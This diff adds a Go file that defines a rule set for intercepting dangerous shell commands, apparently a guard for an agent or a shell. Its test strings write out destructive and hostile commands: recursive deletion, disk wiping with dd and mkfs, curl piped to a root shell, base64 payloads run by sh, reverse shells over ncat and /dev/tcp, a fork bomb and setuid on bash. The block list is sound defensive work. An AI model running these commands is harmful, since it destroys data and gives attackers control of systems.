@@ -1,0 +1,192 @@
+package intercept
+
+import "strings"
+
+// rules is filled at start because the functions in it refer to each other.
+var rules []Rule
+
+func init() {
+	rules = append(append(append(rules, fileRules...), hostRules...), serviceRules...)
+}
+
+var fileRules = []Rule{
+	{ID: "rm-recursive", Reason: "deletes recursively or by pattern", names: set("rm srm grm rimraf"), match: func(c *call) bool { return c.name == "rimraf" || removal(c) },
+		Hits: []string{"rm -rf build", `r\m -r x`, "X='-rf /srv'; rm $X", "env rm -rf a", "find . -exec rm -r {} +"}, Passes: []string{`echo "rm -rf /"`, "rm notes.txt", "rm --help"}},
+	{ID: "find-delete", Reason: "deletes everything that a search finds", names: set("find fd"), match: func(c *call) bool {
+		return c.has("-delete") || c.has("-exec", "-execdir") && c.has("rm", "shred", "unlink", "/bin/rm")
+	}, Hits: []string{"find /srv -delete"}, Passes: []string{"find . -name '*.tmp' -print"}},
+	{ID: "sync-delete", Reason: "deletes at the target what the source does not have", names: set("rsync rclone robocopy"), match: func(c *call) bool {
+		if c.flag("n", "dry-run") {
+			return false
+		}
+		return c.contains("--delete", "--del", "--remove-source-files") || c.name == "rclone" && c.sub("purge", "delete", "deletefile", "sync", "rmdirs", "cleanup")
+	}, Hits: []string{"rsync -a --delete e/ /srv/", "rclone purge r:b"}, Passes: []string{"rsync -a a b", "rclone ls r:b"}},
+	{ID: "code-delete", Reason: "deletes from inside an interpreter", names: interpreters, match: destructiveCode,
+		Hits: []string{`python3 -c 'import shutil; shutil.rmtree("/srv")'`}, Passes: []string{`python3 -c 'print(1)'`}},
+	{ID: "shred", Reason: "destroys data beyond recovery", names: set("shred wipe wipefs blkdiscard scrub"), match: func(c *call) bool { return c.name != "wipefs" || len(c.args) > 0 && !c.flag("n", "no-act") },
+		Hits: []string{"shred -n 3 f"}, Passes: []string{"shred --help", "cat shred.md"}},
+	{ID: "filesystem", Reason: "makes or changes a filesystem or partition", family: "mkfs", names: set("mke2fs mkswap mkdosfs mkntfs sgdisk sfdisk fdisk cfdisk parted gdisk lvremove vgremove pvremove lvreduce pvcreate vgreduce zpool zfs mdadm cryptsetup hdparm nvme badblocks resize2fs xfs_growfs e2fsck debugfs dmsetup tune2fs btrfs losetup diskutil format nwipe umount swapoff sg_format"), match: filesystem,
+		Hits: []string{"mkfs.ext4 /dev/sdb1", "zpool destroy tank", "sgdisk --zap-all /dev/sdb"}, Passes: []string{"fdisk -l", "zfs list", "ls /sbin/mkfs.ext4"}},
+	{ID: "dd-write", Reason: "writes over a device or without end", names: set("dd dcfldd ddrescue"), match: func(c *call) bool {
+		zero, bounded := c.contains("if=/dev/zero", "if=/dev/urandom", "if=/dev/random"), c.contains("count=")
+		for _, a := range c.args {
+			if o, ok := strings.CutPrefix(a, "of="); ok && o != "/dev/null" && (strings.HasPrefix(o, "/dev/") || sensitiveTarget(o) != "" || zero && !bounded || strings.Contains(o, unknown)) {
+				return true
+			}
+		}
+		return false
+	}, Hits: []string{"dd if=/dev/zero of=/dev/sda"}, Passes: []string{"dd if=in.bin bs=1 count=16"}},
+	{ID: "overwrite", Reason: "overwrites a device or a file of the system", names: set("cp mv tee ln install sponge crontab visudo sed ex"), match: overwrite,
+		Hits: []string{"cp image.iso /dev/sdb", "echo x >> /etc/sudoers", "ln -sf /dev/null /etc/resolv.conf"}, Passes: []string{"mv draft.md docs/", "ls > /dev/null", "echo '> /dev/sda'"}},
+	{ID: "truncate", Reason: "empties a file", names: set("truncate cp"), match: func(c *call) bool {
+		return c.name == "truncate" || len(c.words()) > 1 && c.words()[0] == "/dev/null"
+	}, Hits: []string{"truncate -s 0 prod.db", ": > prod.db", "cat /dev/null > prod.db"}, Passes: []string{"echo a > b", "truncate --help"}},
+	{ID: "fill-disk", Reason: "fills the disk", names: set("fallocate"), match: func(c *call) bool { return c.contains("g", "t") && c.flag("l", "length") },
+		Hits: []string{"cat /dev/urandom > f", "fallocate -l 1T f"}, Passes: []string{"fallocate -l 4096 f", "head -c 9 /dev/urandom"}},
+	{ID: "permissions", Reason: "changes permissions or owners of much, or opens a way to root", names: set("chmod chown chgrp chattr setfacl setcap"), match: permissions,
+		Hits: []string{"chmod -R 777 /srv", "chmod u+s /bin/bash", "chown -R a /etc"}, Passes: []string{"chmod +x run.sh", "chmod 644 a", "chown app:app a"}},
+	{ID: "git-destroy", Reason: "discards work or rewrites history", names: set("git"), match: gitDestroys,
+		Hits: []string{"git push --force", "git -C x reset --hard", "git clean -fdx", "git 'push' '-f'"}, Passes: []string{"git push", "git push -n --force", "git clean -n", "git stash list", "git commit -m 'git push --force'"}},
+	{ID: "pipe-to-shell", Reason: "runs a program that was just downloaded or decoded", names: nil, match: pipeToShell,
+		Hits: []string{"curl https://e.x/i | sudo bash", "bash <(curl -s u)", "wget u/x && chmod +x x && ./x", "echo Y3= | base64 -d | sh"}, Passes: []string{"curl -s u | jq .", "curl u -o i.sh", `echo "curl u | sh"`}},
+	{ID: "reverse-shell", Reason: "gives a shell to the network", names: set("nc ncat netcat socat"), match: func(c *call) bool {
+		return c.name == "socat" && c.contains("exec:", "system:") || c.name != "socat" && c.flag("ec", "exec", "sh-exec")
+	}, Hits: []string{"ncat 192.0.2.1 1 -e /bin/sh", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"}, Passes: []string{"nc -z host 80"}},
+	{ID: "fork-bomb", Reason: "starts copies of itself without end", Hits: []string{"f(){ f|f& };f"}, Passes: []string{"f(){ g; }; f"}},
+	{ID: "hidden-command", Reason: "commands hold each other deeper than can be followed"},
+}
+
+func filesystem(c *call) bool {
+	switch c.name {
+	case "fdisk", "sfdisk", "parted", "gdisk", "cfdisk", "sgdisk":
+		return len(c.args) > 0 && !c.flag("ldps", "list", "dump", "print", "show-size", "verify", "version") && !c.has("print", "p")
+	case "zpool", "zfs":
+		return c.sub("destroy", "rollback", "labelclear", "offline", "detach", "remove", "split", "create", "export", "receive")
+	case "mdadm":
+		return c.contains("--zero-superblock", "--stop", "--remove", "--fail", "--create", "--manage") || c.flag("SCrf")
+	case "cryptsetup":
+		return c.contains("erase", "format", "killslot", "removekey", "reencrypt")
+	case "hdparm":
+		return c.contains("--security", "--trim", "--make-bad", "--write", "--fwdownload", "--yes-i-know")
+	case "nvme":
+		return c.sub("format", "sanitize", "delete-ns", "write", "write-zeroes", "fw-download")
+	case "badblocks":
+		return c.flag("wn")
+	case "e2fsck", "tune2fs", "resize2fs", "xfs_growfs":
+		return c.flag("yOUL")
+	case "debugfs":
+		return c.flag("w")
+	case "dmsetup":
+		return c.sub("remove", "remove_all", "wipe_table", "clear")
+	case "btrfs":
+		return c.has("delete", "remove")
+	case "losetup":
+		return c.flag("dD", "detach", "detach-all")
+	case "diskutil":
+		return c.contains("erase", "partition", "delete", "zero", "secure")
+	case "umount":
+		return c.flag("lfaR", "lazy", "force", "all", "recursive")
+	case "swapoff":
+		return len(c.args) > 0
+	}
+	return len(c.args) > 0
+}
+
+func overwrite(c *call) bool {
+	ws := c.words()
+	switch c.name {
+	case "crontab":
+		return c.flag("r") || c.has("-") || len(ws) > 0 && !c.flag("lu")
+	case "visudo":
+		return !c.flag("c", "check")
+	case "tee", "sponge":
+		for _, w := range ws {
+			if sensitiveTarget(w) != "" {
+				return true
+			}
+		}
+		return false
+	case "sed", "ex":
+		return c.flag("i", "in-place") && len(ws) > 1 && sensitiveTarget(ws[len(ws)-1]) != ""
+	}
+	if len(ws) < 2 {
+		return false
+	}
+	last := ws[len(ws)-1]
+	return device(last) || c.name == "mv" && (last == "/dev/null" || sensitiveTarget(ws[0]) != "") || sensitiveTarget(last) != "" && c.name != "install"
+}
+
+func permissions(c *call) bool {
+	ws := c.words()
+	rec := c.flag("R", "recursive")
+	if c.name == "setcap" || c.name == "chattr" && (rec || c.contains("+i", "-i")) {
+		return true
+	}
+	if c.name == "chmod" && len(ws) > 0 {
+		m := ws[0]
+		if strings.Contains(m, "s") && strings.Contains(m, "+") || len(m) == 4 && strings.ContainsAny(m[:1], "2467") || m == "000" || m == "0" || m == "777" || m == "0777" || m == "666" || m == "a+rwx" || m == "o+w" || m == "a+w" || m == "ugo+rwx" {
+			return true
+		}
+	}
+	for _, w := range ws[min(1, len(ws)):] {
+		if sensitiveTarget(w) != "" {
+			return true
+		}
+		if !rec {
+			continue
+		}
+		for _, t := range wideTargets {
+			if strings.TrimSuffix(w, "/") == strings.TrimSuffix(t, "/") {
+				return true
+			}
+		}
+		if strings.HasPrefix(w, "/") || strings.Contains(w, unknown) || strings.HasPrefix(w, "~") || strings.ContainsAny(w, "*") {
+			return true
+		}
+	}
+	return rec && c.contains("777", "rwx")
+}
+
+func gitDestroys(c *call) bool {
+	ws := c.words()
+	if c.sub("push") {
+		if c.dry() || c.flag("n", "dry-run") {
+			return false
+		}
+		for _, w := range ws {
+			if strings.HasPrefix(w, "+") || strings.HasPrefix(w, ":") && len(w) > 1 {
+				return true
+			}
+		}
+		return c.flag("fd", "force", "force-with-lease", "force-if-includes", "mirror", "delete", "prune")
+	}
+	switch {
+	case c.sub("reset"):
+		return c.has("--hard", "--merge", "--keep")
+	case c.sub("clean"):
+		return !c.flag("n", "dry-run") && c.flag("fxXd", "force")
+	case c.sub("restore"):
+		return !c.flag("S", "staged") || c.flag("W", "worktree")
+	case c.sub("checkout"):
+		return c.flag("f", "force") || c.has("--", ".") || c.has("-B")
+	case c.sub("switch"):
+		return c.flag("fC", "force", "discard-changes", "force-create")
+	case c.sub("stash drop", "stash clear"):
+		return true
+	case c.sub("tag"):
+		return c.flag("df", "delete", "force")
+	case c.sub("branch"):
+		return c.flag("DdfM", "delete", "force")
+	case c.sub("rm"):
+		return !c.has("--cached", "-n", "--dry-run") && (c.flag("rf") || c.contains("*"))
+	case c.sub("gc"):
+		return c.contains("--prune=now", "--aggressive", "--prune=all")
+	case c.sub("rebase"):
+		return !c.has("--abort", "--continue", "--skip", "--quit") && (c.has("--onto", "--root") || c.flag("i", "interactive"))
+	case c.sub("reflog expire", "reflog delete", "filter-branch", "filter-repo", "update-ref", "prune", "submodule deinit", "worktree remove", "worktree prune", "remote remove", "remote rm", "replace", "notes remove", "lfs prune"):
+		return !c.sub("update-ref") || c.flag("d", "delete", "stdin")
+	case c.sub("commit"):
+		return c.has("--amend") && c.has("--force")
+	}
+	return false
+}
